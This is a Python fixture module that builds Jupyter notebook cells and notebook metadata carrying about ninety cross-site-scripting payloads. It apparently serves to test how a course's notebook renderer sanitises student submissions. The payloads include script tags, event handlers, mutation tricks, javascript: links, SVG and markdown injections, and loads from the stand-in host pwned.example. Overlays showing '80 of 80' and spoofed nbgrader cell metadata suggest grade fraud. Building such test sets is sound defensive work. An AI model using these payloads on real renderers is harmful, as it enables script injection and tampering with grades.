"""What a student may put into a notebook so that it does something in the reader's browser.

Each payload would set the page's title, load from another machine, leave the page or lie over its marks. `HOSTILE`
maps a name to the cell that holds it.
"""

from __future__ import annotations

import base64
import json

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

RUN = "document.title='PWNED'"
AWAY = "http://pwned.example/x"
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(30)).decode()


def shows(mime: str, value: object, **metadata: object) -> NotebookNode:
    """A code cell with one output."""
    output = new_output("display_data", data={mime: value}, metadata=metadata)
    return new_code_cell("show()", outputs=[output])


def html(text: str) -> NotebookNode:
    """A code cell that shows HTML."""
    return shows("text/html", text)


def _svg(inner: str, attributes: str = "") -> str:
    spaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f"<svg {spaces} {attributes}>{inner}</svg>"


def _data(text: str, mime: str = "text/html") -> str:
    return f"data:{mime};base64,{base64.b64encode(text.encode()).decode()}"


def _attached(mime: str, raw: str) -> NotebookNode:
    cell = new_markdown_cell("![x](attachment:a.png)")
    cell.attachments = NotebookNode({"a.png": NotebookNode({mime: raw})})
    return cell


def _error(line: str) -> NotebookNode:
    return new_code_cell("1/0", outputs=[new_output("error", ename=line, evalue=line, traceback=[line])])


def _marked(name: str) -> NotebookNode:
    """A cell that pretends to be one of the course's."""
    marked = {
        "grade_id": name,
        "grade": True,
        "solution": True,
        "locked": False,
        "points": 1,
        "schema_version": 3,
    }
    return new_markdown_cell("text", metadata={"nbgrader": {**marked, "task": False}})


_SCRIPT = f"<script>{RUN}</script>"
_IMG = f'<img src=x onerror="{RUN}">'
_WIDGET = "application/vnd.jupyter.widget-view+json"

HOSTILE: dict[str, NotebookNode] = {
    "script": html(_SCRIPT),
    "script in capitals": html(f"<ScRiPt>{RUN}</sCrIpT >"),
    "script, unclosed": html(f"<script>{RUN}"),
    "script within a script": html(f"<scr<script>ipt>{RUN}</scr</script>ipt>"),
    "script from outside": html(f"<script src='{AWAY}'></script>"),
    "img onerror": html(_IMG),
    "img onerror with slashes": html(f"<img/src=x/onerror={RUN}>"),
    "details ontoggle": html(f'<details open ontoggle="{RUN}"><summary>x</summary></details>'),
    "body onload": html(f'<body onload="{RUN}"><p>x'),
    "svg onload": html(f'<svg onload="{RUN}"><circle r=1 /></svg>'),
    "svg animate": html(f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>'),
    "math link": html(f'<math href="javascript:{RUN}"><mi>x</mi></math>'),
    "mutation by math and style": html(
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{_IMG}">'
    ),
    "mutation by noscript": html(f'<noscript><p title="</noscript>{_IMG}">'),
    "mutation by a comment": html(f"<!--><{_IMG[1:]}-->"),
    "mutation by textarea": html(f"<textarea></textarea{_IMG}"),
    "iframe srcdoc": html(f'<iframe srcdoc="&lt;script&gt;top.{RUN}&lt;/script&gt;"></iframe>'),
    "iframe javascript": html(f'<iframe src="javascript:{RUN}"></iframe>'),
    "object": html(f'<object data="{_data(_SCRIPT)}"></object>'),
    "embed": html(f'<embed src="{_data(_SCRIPT)}">'),
    "link javascript": html(f'<a href="javascript:{RUN}">click</a>'),
    "link with entities": html(f'<a href="jav&#x0A;ascript&colon;{RUN}">click</a>'),
    "link to data": html(f'<a href="{_data(_SCRIPT)}">click</a>'),
    "form": html(
        f"<form action='{AWAY}'><input name=x autofocus onfocus=\"{RUN}\"><button>send</button></form>"
    ),
    "button formaction": html(f'<button formaction="javascript:{RUN}">x</button>'),
    "meta refresh": html(f'<meta http-equiv=refresh content="0;url={AWAY}">'),
    "meta policy": html("<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"),
    "base": html(f"<base href='{AWAY}'>"),
    "stylesheet from outside": html(f"<link rel=stylesheet href='{AWAY}'>"),
    "style import": html(f"<style>@import '{AWAY}'; body {{ background: url({AWAY}) }}</style>"),
    "style url": html(f"<p style=\"background-image:url('{AWAY}')\">x</p>"),
    "style url, escaped": html(f'<p style="background:\\75 rl({AWAY})">x</p>'),
    "style url in a font": html(f'<p style="font:1px url({AWAY});list-style:url({AWAY})">x</p>'),
    "style over the page": html(
        '<div style="position:fixed;inset:0;z-index:9;background:#fff">80 of 80</div>'
    ),
    "style above its place": html('<div style="margin-top:-900px;background:white">80 of 80</div>'),
    "image from outside": html(
        f"<img src='{AWAY}'><img srcset='{AWAY} 2x'><picture><source srcset='{AWAY}'></picture>"
    ),
    "video from outside": html(f"<video poster='{AWAY}'><source src='{AWAY}' onerror=\"{RUN}\"></video>"),
    "old attributes": html(f"<table background='{AWAY}'><td background='{AWAY}'>x</table>"),
    "anchor of the page": html("<p id='found-train' name='found-train' class='card'>80 of 80</p>"),
    "template": html(f"<template shadowrootmode=open>{_IMG}</template>"),
    "html in html": html(f"</div></main></body></html><html><body>{_SCRIPT}"),
    "nul and control characters": html(f"<scr\x00ipt>{RUN}</script><img \x0bsrc=x \x0conerror={RUN}>"),
    "the cleaning's own sign": html("<b title='\ue0000\ue000'>\ue0000\ue000</b>"),
    "javascript": shows("application/javascript", RUN),
    "text/javascript": shows("text/javascript", RUN),
    "widget": shows(_WIDGET, {"model_id": "x", "version_major": 2, "html": _SCRIPT}),
    "vega": shows("application/vnd.vegalite.v5+json", {"usermeta": _SCRIPT}),
    "a type with markup in its name": shows(f"x/{_SCRIPT}", "x"),
    "pdf": shows("application/pdf", base64.b64encode(_SCRIPT.encode()).decode()),
    "mermaid": shows("text/vnd.mermaid", f"graph TD; A[{_IMG}]"),
    "isolated html": new_code_cell(
        "show()",
        outputs=[
            new_output("display_data", {"text/html": _SCRIPT}, metadata={"text/html": {"isolated": True}}),
        ],
    ),
    "latex": shows("text/latex", f"$\\text{{{_IMG}}}$"),
    "latex link": shows("text/latex", f"$\\href{{javascript:{RUN}}}{{x}}$"),
    "svg script": shows("image/svg+xml", _svg(f"<script>{RUN}</script>")),
    "svg handler": shows("image/svg+xml", _svg("<circle r='1'/>", f'onload="{RUN}"')),
    "svg foreign object": shows("image/svg+xml", _svg(f"<foreignObject>{_SCRIPT}</foreignObject>")),
    "svg that loads": shows("image/svg+xml", _svg(f"<image xlink:href='{AWAY}'/><use href='{AWAY}#x'/>")),
    "svg entities": shows(
        "image/svg+xml", f"<!DOCTYPE svg [<!ENTITY a '{AWAY}'>]>{_svg('<text>&amp;a;</text>')}"
    ),
    "svg that is html": shows("image/svg+xml", _SCRIPT),
    "png that is html": shows("image/png", base64.b64encode(_SCRIPT.encode()).decode()),
    "png that leaves its attribute": shows("image/png", f'x" onerror="{RUN}'),
    "png with a size that leaves": shows("image/png", PNG, **{"image/png": {"width": f"1 onerror={RUN}"}}),
    "png with words that leave": shows("image/png", PNG, **{"image/png": {"alt": f'" onload="{RUN}'}}),
    "markdown output": shows("text/markdown", f"# x\n\n{_SCRIPT}\n\n[a](javascript:{RUN})"),
    "plain output": shows("text/plain", f"{_SCRIPT}\x1b[31m{_IMG}\x1b[0m"),
    "stream": new_code_cell("x", outputs=[new_output("stream", text=f"{_SCRIPT}\x1b]8;;{AWAY}\x1b\\link")]),
    "error": _error(f"{_SCRIPT}\x1b[0;31m{_IMG}"),
    "code": new_code_cell(f"x = '''{_SCRIPT}{_IMG}'''"),
    "raw cell": new_raw_cell(_SCRIPT, metadata={"raw_mimetype": "text/html"}),
    "markdown script": new_markdown_cell(_SCRIPT),
    "markdown inline": new_markdown_cell(f"a {_IMG} b"),
    "markdown link": new_markdown_cell(
        f"[a](javascript:{RUN}) <javascript:{RUN}> [b][1]\n\n[1]: javascript:{RUN}"
    ),
    "markdown link with entities": new_markdown_cell(f"[a](&#x6A;avascript:{RUN})"),
    "markdown picture": new_markdown_cell(f'![x]({AWAY}) ![x" onerror="{RUN}](x)'),
    "markdown fence": new_markdown_cell(f'```mermaid\n{_IMG}\n```\n\n```"><script>\n{RUN}\n```'),
    "markdown math": new_markdown_cell(f"$\\text{{{_SCRIPT}}}$ $$\\href{{javascript:{RUN}}}{{x}}$$"),
    "markdown environment": new_markdown_cell(f"\\begin{{align}}\\text{{{_IMG}}}\\end{{align}}"),
    "markdown heading": new_markdown_cell(f"# {_IMG}"),
    "markdown table": new_markdown_cell(f"| a |\n|---|\n| {_SCRIPT} |"),
    "markdown details": new_markdown_cell(f"<details>\n<summary>x</summary>\n{_SCRIPT}\n</details>"),
    "markdown comment": new_markdown_cell(f"<!-- x --><img src=x onerror={RUN}>"),
    "attached html": _attached("text/html", base64.b64encode(_SCRIPT.encode()).decode()),
    "attached svg": _attached("image/svg+xml", base64.b64encode(_svg(_SCRIPT).encode()).decode()),
    "attachment that leaves": _attached('image/png" onerror="' + RUN, PNG),
    "attachment that is missing": new_markdown_cell("![x](attachment:nothing.png)"),
    "a cell's name": _marked(f'"><script>{RUN}</script>'),
    "a cell's tags": new_markdown_cell("x", metadata={"tags": [f'"{_IMG}']}),
    "a cell's id": NotebookNode(new_markdown_cell("x"), id=f'x" onclick="{RUN}'),
}

# Metadata of the notebook itself.
METADATA = {
    "title": f"</title>{_SCRIPT}",
    "authors": [{"name": _SCRIPT}],
    "celltoolbar": _SCRIPT,
    "language_info": {"name": _SCRIPT, "pygments_lexer": _SCRIPT, "codemirror_mode": _SCRIPT},
    "widgets": {
        "application/vnd.jupyter.widget-state+json": {"state": {"x": {"state": json.dumps(_SCRIPT)}}}
    },
}
